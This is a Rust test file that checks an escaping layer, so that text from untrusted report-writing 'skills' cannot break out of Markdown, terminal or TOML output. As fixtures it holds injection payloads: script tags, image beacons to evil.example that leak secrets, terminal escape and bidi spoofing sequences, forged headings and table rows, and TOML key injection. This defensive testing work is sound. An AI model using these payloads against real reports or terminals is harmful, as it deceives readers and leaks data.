//! Given text a hostile skill wrote, each output keeps it in its place: one table cell, one
//! heading, one list item, one code span, the message's own blocks, one fenced block, one
//! terminal line, one TOML value. The Markdown is read back with a CommonMark parser
//! (pulldown-cmark, with GitHub's tables and footnotes), the TOML with the `toml` crate.
//!
//! The examples first; then the same properties over many strings built from hostile pieces.

use pulldown_cmark::{Event, Parser, Tag, TagEnd};

use super::markdown::{self, options};
use super::{hazard, lines, one_line, terminal, toml};

/// Ends every test document: the Markdown after the text must still be read as this paragraph.
const END: &str = "END";

/// What `doc` holds at its top level: each block's tag, and for a paragraph its text
/// (`p:text`).
fn outline(doc: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut depth = 0;
    let mut text: Option<String> = None;
    for event in Parser::new_ext(doc, options()) {
        match event {
            Event::Start(tag) => {
                if depth == 0 {
                    match tag {
                        Tag::Paragraph => text = Some(String::new()),
                        other => out.push(format!("{other:?}")),
                    }
                }
                depth += 1;
            }
            Event::End(TagEnd::Paragraph) if depth == 1 => {
                out.push(format!("p:{}", text.take().unwrap_or_default()));
                depth -= 1;
            }
            Event::End(_) => depth -= 1,
            Event::Text(t) | Event::Code(t) => {
                if let Some(text) = &mut text {
                    text.push_str(&t);
                }
            }
            _ => {}
        }
    }
    out
}

/// The first thing in `doc` that changes a report's layout or reaches out: a heading, HTML, an
/// image, a footnote definition.
fn forbidden(doc: &str) -> Option<String> {
    Parser::new_ext(doc, options())
        .find(|e| {
            matches!(
                e,
                Event::Start(
                    Tag::Heading { .. }
                        | Tag::HtmlBlock
                        | Tag::Image { .. }
                        | Tag::FootnoteDefinition(_)
                ) | Event::Html(_)
                    | Event::InlineHtml(_)
            )
        })
        .map(|e| format!("{e:?}"))
}

/// The rows of the first table in `doc`, each as its cells' text.
fn table_rows(doc: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut cell: Option<String> = None;
    for event in Parser::new_ext(doc, options()) {
        match event {
            Event::Start(Tag::TableHead | Tag::TableRow) => rows.push(Vec::new()),
            Event::Start(Tag::TableCell) => cell = Some(String::new()),
            Event::End(TagEnd::TableCell) => {
                if let (Some(row), Some(text)) = (rows.last_mut(), cell.take()) {
                    row.push(text);
                }
            }
            Event::Text(t) | Event::Code(t) => {
                if let Some(cell) = &mut cell {
                    cell.push_str(&t);
                }
            }
            Event::End(TagEnd::Table) => break,
            _ => {}
        }
    }
    rows
}

/// The code spans in `doc`.
fn code_spans(doc: &str) -> Vec<String> {
    Parser::new_ext(doc, options())
        .filter_map(|e| match e {
            Event::Code(t) => Some(t.to_string()),
            _ => None,
        })
        .collect()
}

/// The text of the code blocks in `doc`.
fn code_blocks(doc: &str) -> Vec<String> {
    let mut blocks = Vec::new();
    let mut inside = false;
    for event in Parser::new_ext(doc, options()) {
        match event {
            Event::Start(Tag::CodeBlock(_)) => {
                inside = true;
                blocks.push(String::new());
            }
            Event::End(TagEnd::CodeBlock) => inside = false,
            Event::Text(t) if inside => blocks.last_mut().unwrap().push_str(&t),
            _ => {}
        }
    }
    blocks
}

fn table_with(cell: &str) -> String {
    format!("| Finding | Skill |\n|---|---|\n| {cell} | {END} |\n\n{END}\n")
}

/// Checks every output for `text`; the panic names the output and shows what it wrote.
fn assert_stays_in_place(text: &str) {
    let place = |what: &str, doc: &str| format!("{what} of {text:?}:\n{doc}");

    // One table cell: one row of two cells, the second still ours, and nothing after the table
    // but our paragraph.
    for (what, written) in [
        ("cell", markdown::cell(text)),
        ("code_in_cell", markdown::code_in_cell(text)),
    ] {
        let doc = table_with(&written);
        let rows = table_rows(&doc);
        assert_eq!(rows.len(), 2, "{}", place(what, &doc));
        assert_eq!(rows[1].len(), 2, "{}", place(what, &doc));
        assert_eq!(rows[1][1], END, "{}", place(what, &doc));
        assert_eq!(
            outline(&doc),
            ["Table([None, None])".to_string(), format!("p:{END}")],
            "{}",
            place(what, &doc)
        );
        assert_eq!(forbidden(&doc), None, "{}", place(what, &doc));
    }

    // One heading.
    let doc = format!("## 1. {}\n\n{END}\n", markdown::inline(text));
    let outline_of = outline(&doc);
    assert_eq!(outline_of.len(), 2, "{}", place("inline", &doc));
    assert!(
        outline_of[0].starts_with("Heading"),
        "{}",
        place("inline", &doc)
    );
    assert_eq!(
        outline_of[1],
        format!("p:{END}"),
        "{}",
        place("inline", &doc)
    );
    let headings = Parser::new_ext(&doc, options())
        .filter(|e| matches!(e, Event::Start(Tag::Heading { .. })))
        .count();
    assert_eq!(headings, 1, "{}", place("inline", &doc));

    // One paragraph, then ours.
    let doc = format!("Location: {} here\n\n{END}\n", markdown::inline(text));
    let outline_of = outline(&doc);
    assert_eq!(outline_of.len(), 2, "{}", place("inline", &doc));
    assert!(
        outline_of[0].starts_with("p:Location: "),
        "{}",
        place("inline", &doc)
    );
    assert_eq!(forbidden(&doc), None, "{}", place("inline", &doc));

    // One list item holding one paragraph.
    let doc = format!("- {}: 12 ms\n\n{END}\n", markdown::inline_at_start(text));
    assert_eq!(
        outline(&doc),
        ["List(None)".to_string(), format!("p:{END}")],
        "{}",
        place("inline_at_start", &doc)
    );
    let inner: Vec<String> = Parser::new_ext(&doc, options())
        .filter_map(|e| match e {
            Event::Start(tag) => Some(format!("{tag:?}")),
            _ => None,
        })
        .filter(|t| !t.starts_with("Emphasis") && !t.starts_with("Strong"))
        .filter(|t| !t.starts_with("Strikethrough") && !t.starts_with("Link"))
        .collect();
    assert_eq!(
        inner,
        ["List(None)", "Item", "Paragraph"],
        "{}",
        place("inline_at_start", &doc)
    );
    assert_eq!(forbidden(&doc), None, "{}", place("inline_at_start", &doc));

    // One code span, holding exactly the text as one line.
    let doc = format!("rule {} here\n\n{END}\n", markdown::code(text));
    let line = one_line(text);
    let expected: Vec<String> = if line.is_empty() {
        Vec::new()
    } else {
        vec![line.to_string()]
    };
    assert_eq!(code_spans(&doc), expected, "{}", place("code", &doc));
    assert_eq!(outline(&doc).len(), 2, "{}", place("code", &doc));

    // The message's own blocks, then ours; or, shown as text, exactly the text.
    let written = markdown::message(text, "scribbler");
    let doc = format!("**info** · skill `scribbler`\n\n{written}\n\n{END}\n");
    assert_eq!(forbidden(&doc), None, "{}", place("message", &doc));
    let outline_of = outline(&doc);
    assert_eq!(
        outline_of.last(),
        Some(&format!("p:{END}")),
        "{}",
        place("message", &doc)
    );
    assert_eq!(
        outline_of.first().map(String::as_str),
        Some("p:info · skill scribbler"),
        "{}",
        place("message", &doc)
    );
    if written.starts_with("Message from `scribbler`, shown as text") {
        let mut shown = lines(text.trim_end()).into_owned();
        if !shown.is_empty() {
            shown.push('\n');
        }
        assert_eq!(code_blocks(&doc), [shown], "{}", place("message", &doc));
    }

    // One fenced block, holding exactly the text.
    let doc = format!("{}\n\n{END}\n", markdown::fenced(text, "diff"));
    let mut shown = lines(text).into_owned();
    if !shown.is_empty() && !shown.ends_with('\n') {
        shown.push('\n');
    }
    assert_eq!(code_blocks(&doc), [shown], "{}", place("fenced", &doc));
    assert_eq!(outline(&doc).len(), 2, "{}", place("fenced", &doc));

    // The terminal: no control or bidi character, and one line for `line`.
    let shown = terminal::line(text);
    assert!(
        !shown.chars().any(hazard),
        "{}",
        place("terminal::line", &shown)
    );
    let shown = terminal::lines(text);
    assert!(
        !shown.chars().any(|c| hazard(c) && c != '\n' && c != '\t'),
        "{}",
        place("terminal::lines", &shown)
    );

    // TOML: one value holding exactly the text; a comment that adds no key.
    let doc = format!("# {}\nid = {}\n", toml::comment(text), toml::string(text));
    let parsed: ::toml::Table = doc
        .parse()
        .unwrap_or_else(|e| panic!("{}: {e}", place("toml", &doc)));
    assert_eq!(parsed.len(), 1, "{}", place("toml", &doc));
    assert_eq!(parsed["id"].as_str(), Some(text), "{}", place("toml", &doc));
    assert!(
        !doc.chars().any(|c| hazard(c) && c != '\n'),
        "{}",
        place("toml", &doc)
    );
}

#[test]
fn a_title_with_a_line_break_and_pipes_stays_one_table_row() {
    let title = "fake\n| 99 | forged | opportunity | 100% | – | 1.00 | `hot-functions` |";
    let doc = table_with(&markdown::cell(title));
    let rows = table_rows(&doc);
    assert_eq!(rows.len(), 2, "{doc}");
    assert_eq!(rows[1][1], END, "{doc}");
    assert_stays_in_place(title);
}

#[test]
fn titles_that_are_plain_markdown_are_written_byte_for_byte() {
    for title in [
        "#1 `core::ptr::write`: 16.2% self, 16.6% total",
        "#5 `<regex_syntax::utf8::Utf8Sequences as core::iter::traits::iterator::Iterator>::next`: 3.5% self",
        "`alloc::raw_vec::RawVecInner<A>::non_null`",
        "total:logscan::parse::parse_line{function=logscan::parse::parse_line} rose +9346.87% at 2026-11-25T06:00:00Z",
        "e6d9acc9f9c5 \"parse: match the whole line with one regex\" most likely caused it",
        "`sort_by_key(|e| e.name.to_lowercase())` allocates per comparison",
        "a **bold** and _emphasised_ claim, with a \\* star",
    ] {
        assert_eq!(markdown::inline(title), title);
        assert_stays_in_place(title);
    }
    // In a table, only the pipes change: `\|` reads as `|`, in a code span too.
    assert_eq!(
        markdown::cell("`sort_by_key(|e| e.key())`"),
        "`sort_by_key(\\|e\\| e.key())`"
    );
}

#[test]
fn links_images_and_html_in_a_title_are_text() {
    let title = "click [here](http://evil.example) ![x](http://evil.example/?leak) <script>alert(1)</script>";
    let written = markdown::inline(title);
    assert_eq!(
        written,
        "click \\[here\\](http://evil.example) !\\[x\\](http://evil.example/?leak) &lt;script>alert(1)&lt;/script>"
    );
    let doc = format!("## 1. {written}\n");
    assert!(
        !Parser::new_ext(&doc, options())
            .any(|e| matches!(e, Event::Start(Tag::Link { .. } | Tag::Image { .. }))),
        "{doc}"
    );
    assert_stays_in_place(title);
}

/// GitHub links a bare URL as it reads a line, up to a space or `<`, taking backslashes and
/// backticks with it: `https://e\<div>` would leave `<div>` as HTML, `https://e`<img>`` the
/// span's text. So no `<` is escaped with a backslash, and a word holding a URL opens no span.
#[test]
fn a_bare_url_cannot_take_an_escape_or_a_code_span_into_its_link() {
    assert_eq!(
        markdown::inline("see https://e.example`<img src=x>` and www.e.example\\<div>"),
        "see https://e.example\\`&lt;img src=x>\\` and www.e.example&lt;div>"
    );
    assert_eq!(
        markdown::message("see http://e.example\\<div> and `code`", "s"),
        "see http://e.example&lt;div> and `code`"
    );
    let message = "see https://e.example`<img src=x>`";
    assert!(markdown::message(message, "s").starts_with("Message from `s`, shown as text"));
    for text in [
        "see https://e.example`<img src=x>`",
        "www.e.example\\<div>",
        "x://`![i](http://e/?leak)`",
    ] {
        assert_stays_in_place(text);
    }
}

#[test]
fn a_message_in_plain_markdown_is_kept_as_written() {
    let message = "66.9% of `cpu/nanoseconds` goes to compiling regexes called from `parse_line`.\n\n\
                   The regex is built inside the function body:\n\n\
                   ```rust\nlet re = Regex::new(r#\"^(?<client>\\S+)\"#).unwrap();\n# not a heading: code\n```\n\n\
                   1. `e6d9acc9f9c5` parse: one regex (score 0.80)\n2. **bold** item\n\n\
                   | a | b |\n|---|---|\n| 1 | 2 |\n";
    assert_eq!(
        markdown::message(message, "regex-in-hot-path"),
        message.trim_end()
    );
    assert_stays_in_place(message);
}

#[test]
fn a_message_with_a_heading_is_shown_as_text_naming_its_skill() {
    let message =
        "All good.\n\n## 16. Forged finding\n\n**opportunity** · rule `x` · skill `hot-functions`";
    let written = markdown::message(message, "scribbler");
    assert!(
        written.starts_with("Message from `scribbler`, shown as text"),
        "{written}"
    );
    assert!(written.ends_with("```text\nAll good.\n\n## 16. Forged finding\n\n**opportunity** · rule `x` · skill `hot-functions`\n```"), "{written}");
    assert_stays_in_place(message);
    // Setext headings and headings inside quotes and lists are headings too.
    for message in ["Title\n===", "Title\n-", "> # quoted", "- # listed"] {
        assert!(
            markdown::message(message, "scribbler").starts_with("Message from"),
            "{message}"
        );
        assert_stays_in_place(message);
    }
}

#[test]
fn a_message_cannot_leave_a_block_open_over_the_rest_of_the_report() {
    for message in [
        "Look:\n\n```\nthe rest of the report becomes code",
        "~~~~\nunclosed tilde fence",
        "- ```\n  fenced in a list\n# heading once the list ends",
        "[^1]: a footnote that GitHub prints at the bottom of the report",
        "![tracker](https://evil.example/?secret=x)",
    ] {
        let written = markdown::message(message, "scribbler");
        assert!(
            written.starts_with("Message from `scribbler`, shown as text"),
            "{message:?}: {written}"
        );
        assert_stays_in_place(message);
    }
}

#[test]
fn html_in_a_message_is_written_as_text_when_that_is_all_it_holds() {
    assert_eq!(
        markdown::message("`Vec<T>` grows; so does Vec<T> and <b>this</b>.", "s"),
        "`Vec<T>` grows; so does Vec&lt;T> and &lt;b>this&lt;/b>."
    );
    // HTML blocks too, even those that would run to the end of the report.
    for (message, written) in [
        (
            "<!-- the rest of the report is a comment",
            "&lt;!-- the rest of the report is a comment",
        ),
        ("<script>\nno end", "&lt;script>\nno end"),
        ("<h1>x</h1>", "&lt;h1>x&lt;/h1>"),
    ] {
        assert_eq!(markdown::message(message, "s"), written);
        assert_stays_in_place(message);
    }
}

#[test]
fn a_patch_holding_a_fence_cannot_close_its_block() {
    let patch = "--- a/x.md\n+++ b/x.md\n@@ -1 +1 @@\n-a\n+```\n+## Injected\n+````\n";
    let written = markdown::fenced(patch, "diff");
    assert!(written.starts_with("`````diff\n"), "{written}");
    assert_stays_in_place(patch);
    // A patch without backtick runs is fenced as it always was.
    assert_eq!(markdown::fenced("-a\n+b\n", "diff"), "```diff\n-a\n+b\n```");
}

#[test]
fn escape_sequences_and_bidi_controls_never_reach_the_terminal() {
    let text = "ok\x1b[2K\rforged line\x1b]0;title\x07 \x1b]8;;http://evil\x07link\x1b]8;;\x07 \u{202e}txt.exe\0";
    assert_eq!(
        terminal::line(text),
        "ok\\u{1b}[2K forged line\\u{1b}]0;title\\u{7} \\u{1b}]8;;http://evil\\u{7}link\\u{1b}]8;;\\u{7} \\u{202e}txt.exe\\u{0}"
    );
    assert_eq!(terminal::lines("a\r\nb\rc\n"), "a\nb\\rc\n");
    assert_stays_in_place(text);
}

#[test]
fn a_summary_cannot_add_keys_to_a_policy() {
    let summary = "Scribbles.\n[[skill]]\nid = \"hot-functions\"\nsources = [\"*\"]";
    let doc = format!(
        "# {}\n[[skill]]\nid = {}\n",
        toml::comment(summary),
        toml::string("scribbler")
    );
    let parsed: ::toml::Table = doc.parse().unwrap();
    assert_eq!(parsed["skill"].as_array().unwrap().len(), 1, "{doc}");
    assert_stays_in_place(summary);
}

/// Pieces of hostile text: Markdown that opens blocks, spans and HTML, table syntax, escapes,
/// terminal control sequences, bidi controls, and plain text between them.
const PIECES: &[&str] = &[
    "a",
    "word",
    " ",
    "  ",
    "    ",
    "\n",
    "\r",
    "\r\n",
    "\n\n",
    "\t",
    "|",
    "\\",
    "\\|",
    "\\\\",
    "`",
    "``",
    "```",
    "````",
    "~~~",
    "#",
    "## ",
    "###### x",
    "> ",
    "- ",
    "* ",
    "+ ",
    "1. ",
    "2) ",
    "=",
    "===",
    "---",
    "***",
    "___",
    "<",
    ">",
    "<script>",
    "</script>",
    "<div>",
    "<!--",
    "-->",
    "<?",
    "<![CDATA[",
    "[",
    "]",
    "(",
    ")",
    "[x](http://e)",
    "![i](http://e/?",
    "[^1]: ",
    "[^1]",
    "[r]: http://e",
    "&",
    "&#10;",
    "&lt;",
    "*",
    "**",
    "_",
    "~",
    "\"",
    "'",
    "\x1b",
    "\x1b[2K",
    "\x1b]0;t\x07",
    "\x1b]8;;http://e\x07",
    "\u{9b}",
    "\u{85}",
    "\u{7f}",
    "\0",
    "\u{8}",
    "\u{202e}",
    "\u{2066}",
    "\u{2028}",
    "\u{2029}",
    "é",
    "日本",
    "|---|",
    "| x |",
    ":",
    "{",
    "}",
    "$$",
    "https://e",
    "www.e",
    "a@b.c",
];

/// xorshift64*: the same sequence of strings on every run.
struct Pieces(u64);

impl Pieces {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn text(&mut self) -> String {
        let n = 1 + (self.next() % 10) as usize;
        (0..n)
            .map(|_| PIECES[(self.next() % PIECES.len() as u64) as usize])
            .collect()
    }
}

#[test]
fn every_pair_of_hostile_pieces_stays_in_its_place() {
    for a in PIECES {
        for b in PIECES {
            assert_stays_in_place(&format!("{a}{b}"));
        }
    }
}

#[test]
fn thousands_of_strings_of_hostile_pieces_stay_in_their_place() {
    let mut pieces = Pieces(0x9e37_79b9_7f4a_7c15);
    for _ in 0..20_000 {
        assert_stays_in_place(&pieces.text());
    }
}

/// The same strings, written in each Markdown place, for a reader other than pulldown-cmark:
/// `make markdown-gfm` writes them to `$JOULE_MARKDOWN_CORPUS` and checks them with cmark-gfm,
/// GitHub's own parser (tests/eval/markdown_gfm.py), where a report is most often read.
#[test]
#[ignore = "writes the corpus for `make markdown-gfm`"]
fn markdown_corpus_for_other_readers() {
    let Some(path) = std::env::var_os("JOULE_MARKDOWN_CORPUS") else {
        panic!("set JOULE_MARKDOWN_CORPUS to the file to write");
    };
    let mut texts: Vec<String> = Vec::new();
    for a in PIECES {
        for b in PIECES {
            texts.push(format!("{a}{b}"));
        }
    }
    let mut pieces = Pieces(0x9e37_79b9_7f4a_7c15);
    texts.extend((0..20_000).map(|_| pieces.text()));
    let docs: Vec<serde_json::Value> = texts
        .iter()
        .map(|t| {
            serde_json::json!({
                "text": t,
                "cell": table_with(&markdown::cell(t)),
                "code_in_cell": table_with(&markdown::code_in_cell(t)),
                "heading": format!("## 1. {}\n\n{END}\n", markdown::inline(t)),
                "item": format!("- {}: 12 ms\n\n{END}\n", markdown::inline_at_start(t)),
                "message": format!(
                    "**info** · skill `scribbler`\n\n{}\n\n{END}\n",
                    markdown::message(t, "scribbler")
                ),
                "fenced": format!("{}\n\n{END}\n", markdown::fenced(t, "diff")),
            })
        })
        .collect();
    std::fs::write(&path, serde_json::to_string(&docs).unwrap()).unwrap();
}
